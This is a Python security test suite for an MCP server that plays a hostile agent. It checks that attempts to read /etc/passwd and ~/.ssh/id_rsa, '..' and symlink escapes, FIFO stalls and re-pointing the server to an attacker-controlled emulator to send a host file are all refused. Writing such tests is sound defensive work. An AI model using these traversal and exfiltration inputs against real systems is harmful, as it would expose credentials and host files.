#!/usr/bin/env python3
"""iconect-mcp against a hostile agent, with the official Python MCP client (PyPI `mcp`, pinned by .ci/run).

    python3 Tests/MCPEndToEnd/test_mcp_attacks.py [--bin-path DIR]

A second emulator plays the attacker's server. Every attack of issue 10 is a case: `/etc/passwd`, `~/.ssh`, `..` escapes,
a symlink inside an allowed directory pointing out of it, FIFOs (two at once, which used to stall both worker threads),
an `outputPath` that is a directory or a symlink, a 404 download onto an existing file, the newline and whitespace origin
variants of `iconect_configure`, `timeout: 1e30`, a URL with a password, and an over-long stdin line. Each must be refused
with a clear isError (or, for the line, a parse error), the server must still answer ping, nothing may change on disk,
and the attacker's emulator must have received nothing: no request at all where no call went to it, and never a token
request. Then: client roots enforced and a `list_changed` taking effect; `ICONECT_READ_ONLY=1` hiding and refusing every
write; toolset filters; an unknown toolset failing start-up. Prints "N passed, M failed"; exits 1 on failure.
"""
import asyncio, hashlib, os, subprocess, sys, tempfile, time, warnings

from support import Checks, Emulator, RawServer, credentials, result_object, session
from test_mcp_stdio import bin_path_from_arguments


def digest_tree(folder):
    """Every file under `folder` with its SHA-256 (links not followed), to prove nothing changed."""
    found = {}
    for directory, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(directory, name)
            found[os.path.relpath(path, folder)] = "link" if os.path.islink(path) else \
                "fifo" if not os.path.isfile(path) else hashlib.sha256(open(path, "rb").read()).hexdigest()
    return found


async def refused(checks, client, label, name, arguments, argument, phrase):
    result = await client.call_tool(name, arguments)
    error = result_object(result)
    checks.check(result.is_error and error.get("argument") == argument and phrase in error.get("message", ""),
                 f"refused: {label}", error)
    await client.send_ping()
    return error


async def file_attacks(checks, bin_path, emulator, attacker, work):
    allowed, outside = os.path.join(work, "allowed"), os.path.join(work, "outside")
    for folder in [allowed, os.path.join(allowed, "folder"), outside]:
        os.makedirs(folder, exist_ok=True)
    with open(os.path.join(outside, "secret.txt"), "w") as handle:
        handle.write("the host's secret")
    with open(os.path.join(allowed, "folder", "inside.txt"), "w") as handle:
        handle.write("keep")
    with open(os.path.join(allowed, "existing.txt"), "w") as handle:
        handle.write("precious")
    os.symlink(os.path.join(outside, "secret.txt"), os.path.join(allowed, "link-out"))
    os.symlink(outside, os.path.join(allowed, "dir-out"))
    os.symlink(os.path.join(outside, "written.txt"), os.path.join(allowed, "write-link"))
    os.mkfifo(os.path.join(allowed, "fifo"))
    os.mkfifo(os.path.join(allowed, "fifo2"))
    before_allowed, before_outside = digest_tree(allowed), digest_tree(outside)

    environment = dict(credentials(emulator.base_url), ICONECT_MCP_ALLOWED_DIRS=allowed, HOME=outside)
    seed = emulator.seed()
    target = {"fileName": "x.bin", "projectId": seed["projectId"], "fileStoreId": seed["fileStoreId"]}
    errlog = os.path.join(work, "attacks.log")
    async with session(bin_path, environment, errlog) as client:
        outside_phrase = "outside the allowed directories"
        for label, path in [("/etc/passwd", "/etc/passwd"), ("~/.ssh/id_rsa", "~/.ssh/id_rsa"),
                            (".. escape", os.path.join(allowed, "..", "outside", "secret.txt")),
                            ("../.. to /etc", allowed + "/../../../../../../etc/passwd"),
                            ("symlink to a file outside", os.path.join(allowed, "link-out")),
                            ("symlinked folder outside", os.path.join(allowed, "dir-out", "secret.txt"))]:
            error = await refused(checks, client, f"filePath {label}", "iconect_upload_file", dict(target, filePath=path),
                                  "filePath", outside_phrase)
            if label.startswith("~"):
                checks.check(outside not in error.get("message", ""), "the home directory is not shown", error)

        started = time.monotonic()
        fifo_calls = [client.call_tool("iconect_upload_file", dict(target, filePath=os.path.join(allowed, name)))
                      for name in ["fifo", "fifo2"]]
        results = await asyncio.gather(*fifo_calls, client.send_ping())
        took = time.monotonic() - started
        checks.check(all(r.is_error and "not a readable regular file" in result_object(r).get("message", "") for r in results[:2])
                     and took < 10, f"two FIFOs at once are refused without blocking ({took:.2f} s)",
                     [result_object(r) for r in results[:2]])
        await refused(checks, client, "filePath a directory", "iconect_upload_file", dict(target, filePath=allowed),
                      "filePath", "not a readable regular file")

        uploaded = result_object(await client.call_tool("iconect_upload_file", dict(target, fileContent="aGVsbG8=")))
        file_id = uploaded.get("id", "")
        await refused(checks, client, "outputPath a directory", "iconect_download_file",
                      {"id": file_id, "outputPath": os.path.join(allowed, "folder"), "overwrite": True}, "outputPath", "is a directory")
        await refused(checks, client, "outputPath a symlink", "iconect_download_file",
                      {"id": file_id, "outputPath": os.path.join(allowed, "write-link"), "overwrite": True}, "outputPath",
                      "symbolic link")
        await refused(checks, client, "outputPath outside", "iconect_download_file",
                      {"id": file_id, "outputPath": os.path.join(outside, "written.txt")}, "outputPath", outside_phrase)
        await refused(checks, client, "outputPath through a symlinked folder", "iconect_download_file",
                      {"id": file_id, "outputPath": os.path.join(allowed, "dir-out", "written.txt")}, "outputPath", outside_phrase)
        await refused(checks, client, "outputPath existing without overwrite", "iconect_download_file",
                      {"id": file_id, "outputPath": os.path.join(allowed, "existing.txt")}, "outputPath", "overwrite: true")
        missing = await client.call_tool("iconect_download_file", {"id": "file_missing", "overwrite": True,
                                                                     "outputPath": os.path.join(allowed, "existing.txt")})
        checks.check(missing.is_error and result_object(missing).get("status") == 404, "a 404 download onto an existing file fails",
                     result_object(missing))

        # The chain of the issue: re-point to the attacker, then try to send a host file there.
        configured = await client.call_tool("iconect_configure", {"baseUrl": attacker.base_url, "clientId": "emulator-client"})
        checks.check(not configured.is_error and result_object(configured).get("credentials") == "none",
                     "iconect_configure to another origin takes none of the environment's credentials", result_object(configured))
        await refused(checks, client, "/etc/passwd to the attacker's server", "iconect_upload_file",
                      dict(target, filePath="/etc/passwd"), "filePath", outside_phrase)
        await refused(checks, client, "timeout 1e30", "iconect_configure",
                      {"baseUrl": emulator.base_url, "clientId": "emulator-client", "timeout": 1e30}, "timeout", "between")
        error = await refused(checks, client, "a base URL with user:password@", "iconect_configure",
                              {"baseUrl": attacker.base_url.replace("http://", "http://admin:hunter2-secret@"), "clientId": "x"},
                              "baseUrl", "user name or password")
        checks.check("hunter2" not in str(error), "the password in the URL is not repeated to the agent", error)
    checks.check(digest_tree(allowed) == before_allowed and digest_tree(outside) == before_outside,
                 "nothing changed on disk, inside or outside the allowed directory")
    checks.check(not os.path.exists(os.path.join(outside, "written.txt")), "nothing was written through a link")
    log = open(errlog).read()
    checks.check("hunter2" not in log and "demo-password" not in log, "the log holds no password")
    stats = attacker.stats()
    checks.check(stats["totalRequests"] == 0 and not stats["tokenRequests"], "the attacker's server received nothing",
                 {"total": stats["totalRequests"], "tokens": stats["tokenRequests"]})


async def origin_attacks(checks, bin_path, emulator, attacker, work):
    """ICONECT_BASE_URL unset, or ending in whitespace: the environment's secrets never follow a look-alike URL."""
    secrets = credentials(emulator.base_url)
    for label, base in [("unset", None), ("ending in whitespace", emulator.base_url + " \n")]:
        environment = {key: value for key, value in secrets.items() if key != "ICONECT_BASE_URL"}
        if base is not None:
            environment["ICONECT_BASE_URL"] = base
        for suffix in ["\n", " \n", "\t"]:
            async with session(bin_path, environment, os.path.join(work, "origins.log")) as client:
                configured = await client.call_tool("iconect_configure", {"baseUrl": attacker.base_url + suffix,
                                                                          "clientId": "emulator-client"})
                await client.call_tool("iconect_get_project", {"id": "prj_1"})
                checks.check(result_object(configured).get("credentials") == "none",
                             f"ICONECT_BASE_URL {label}, baseUrl ending in {suffix!r}: no credentials", result_object(configured))
                await client.send_ping()
    stats = attacker.stats()
    checks.check(not stats["tokenRequests"] and not stats["tokenGrants"], "the attacker's server saw no token request",
                 stats["tokenRequests"])


def overlong_line(checks, bin_path, emulator):
    server = RawServer(bin_path, dict(credentials(emulator.base_url), ICONECT_MCP_MAX_MESSAGE_BYTES="65536"))
    server.initialize()
    big = "QUJD" * 100_000
    server.send(('{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"iconect_upload_file","arguments":'
                 '{"fileContent":"' + big + '"}}}').encode())
    answer = server.read()
    checks.check(answer and answer.get("id") == 5 and answer.get("error", {}).get("code") == -32700,
                 "an over-long line is answered with a parse error for its id", str(answer)[:300])
    server.send(('{"jsonrpc":"2.0","method":"tools/call","params":{"x":"' + big + '"},"id":"late"}').encode())
    answer = server.read()
    checks.check(answer and answer.get("id") == "late", "the id is found after the huge params too", str(answer)[:300])
    server.send({"jsonrpc": "2.0", "id": 6, "method": "ping"})
    answer = server.read()
    checks.check(answer and answer.get("id") == 6 and "result" in answer, "the server still answers ping", answer)
    code, _ = server.finish()
    checks.check(code == 0, "and exits 0 at end of input", code)


async def roots(checks, bin_path, emulator, work):
    from mcp import types

    # mcp 2.3.0 flags roots as deprecated in a protocol revision after the one iconect-mcp speaks (2025-11-25).
    warnings.filterwarnings("ignore", message="The roots capability is deprecated")

    first, second, configured = (os.path.join(work, name) for name in ["root-a", "root-b", "environment-dir"])
    for folder in [first, second, configured]:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "doc.txt"), "w") as handle:
            handle.write("document")
    current = [first]

    async def list_roots(context):
        return types.ListRootsResult(roots=[types.Root(uri="file://" + folder, name=os.path.basename(folder)) for folder in current])

    seed = emulator.seed()
    target = {"fileName": "doc.txt", "projectId": seed["projectId"], "fileStoreId": seed["fileStoreId"]}
    environment = dict(credentials(emulator.base_url), ICONECT_MCP_ALLOWED_DIRS=configured)
    async with session(bin_path, environment, os.path.join(work, "roots.log"), list_roots_callback=list_roots) as client:
        async def allowed(folder):
            result = await client.call_tool("iconect_upload_file", dict(target, filePath=os.path.join(folder, "doc.txt")))
            return not result.is_error

        checks.check(await allowed(first) and not await allowed(configured) and not await allowed(second),
                     "the client's roots are enforced, and replace ICONECT_MCP_ALLOWED_DIRS")
        current[:] = [second]
        await client.send_roots_list_changed()
        checks.check(await allowed(second) and not await allowed(first), "a roots list_changed takes effect")


async def selection(checks, bin_path, emulator, work):
    environment = dict(credentials(emulator.base_url), ICONECT_READ_ONLY="1")
    before = emulator.stats()["totalRequests"]
    async with session(bin_path, environment, os.path.join(work, "readonly.log")) as client:
        tools = (await client.list_tools()).tools
        checks.check(tools and all(t.annotations.read_only_hint for t in tools),
                     f"ICONECT_READ_ONLY=1 lists only read-only tools ({len(tools)})")
        seed = emulator.seed()
        for name, arguments in [("iconect_delete_project", {"id": seed["projectId"]}), ("iconect_create_client", {"name": "x"}),
                                ("iconect_update_project", {"id": seed["projectId"], "name": "y"}),
                                ("iconect_bulk_update_records", {"projectId": seed["projectId"], "action": "delete",
                                                                 "recordIds": ["r1"]})]:
            result = await client.call_tool(name, arguments)
            checks.check(result.is_error and result_object(result).get("code") == "toolDisabled", f"read-only refuses {name}",
                         result_object(result))
    checks.check(emulator.stats()["totalRequests"] == before, "no write reached the emulator")

    environment = dict(credentials(emulator.base_url), ICONECT_TOOLSETS="records,projects", ICONECT_EXCLUDE_TOOLS="iconect_delete_record")
    async with session(bin_path, environment, os.path.join(work, "toolsets.log")) as client:
        names = {t.name for t in (await client.list_tools()).tools}
        checks.check("iconect_search_records" in names and "iconect_get_project" in names and "iconect_list_files" not in names
                     and "iconect_delete_record" not in names, "toolsets and exclusions select the tools", sorted(names))

    process = subprocess.run([os.path.join(bin_path, "iconect-mcp")], input=b"", capture_output=True, timeout=60,
                             env=dict(credentials(emulator.base_url), ICONECT_TOOLSETS="recrods"))
    stderr = process.stderr.decode(errors="replace")
    checks.check(process.returncode == 1 and "recrods" in stderr and "records" in stderr and not process.stdout,
                 "an unknown toolset fails start-up, listing the valid ones", stderr[-400:])


def main():
    bin_path = bin_path_from_arguments()
    checks = Checks()
    emulator, attacker = Emulator(bin_path), Emulator(bin_path)
    print(f"iconect-mcp attacks: {bin_path}, emulator at {emulator.base_url}, attacker at {attacker.base_url}")
    try:
        with tempfile.TemporaryDirectory(prefix="iconect-mcp-attacks-") as work:
            work = os.path.realpath(work)

            async def run():
                await file_attacks(checks, bin_path, emulator, attacker, work)
                await origin_attacks(checks, bin_path, emulator, attacker, work)
                await roots(checks, bin_path, emulator, work)
                await selection(checks, bin_path, emulator, work)

            asyncio.run(asyncio.wait_for(run(), timeout=600))
            overlong_line(checks, bin_path, emulator)
    except Exception as error:  # noqa: BLE001 - report and fail
        import traceback
        traceback.print_exc()
        checks.check(False, f"the run completed ({type(error).__name__}: {error})")
    finally:
        emulator.stop()
        attacker.stop()
    print(f"{checks.passed} passed, {checks.failed} failed")
    sys.exit(1 if checks.failed else 0)


if __name__ == "__main__":
    main()
